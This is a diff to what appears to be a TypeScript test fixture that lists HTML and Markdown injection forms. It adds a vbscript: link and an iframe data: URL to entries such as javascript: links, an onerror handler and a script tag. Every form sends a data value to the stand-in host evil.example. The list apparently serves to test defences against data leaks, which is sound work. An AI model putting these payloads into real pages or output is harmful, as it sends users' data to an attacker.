@@ -128,6 +128,11 @@ export const UNSCORED_FORMS: readonly Form[] = [
   ],
   ['a script address in Markdown', (data) => `[x](javascript:fetch('//evil.example/p?h='+'${data}'))`],
   ['no scheme, a backslash and a slash', (data) => raw`<img src="\/evil.example/p.png?h=${data}">`],
+  ['a script address of another language', (data) => `<a href="vbscript:open('/'&'/evil.example/${data}')">Go</a>`],
+  [
+    'a page in an address',
+    (data) => `<iframe src="data:text/html,<script>fetch('/'+'/evil.example/${data}')</script>">`,
+  ],
   ['a script address', (data) => `<a href="javascript:fetch('//evil.example/p?h='+'${data}')">Go</a>`],
   ['an event handler', (data) => `<img src="a" onerror="fetch('https://evil.example/p?h=' + '${data}')">`],
   ['a script', (data) => `<script>new Image().src = "https://evil.example/p?h=" + "${data}"</script>`],
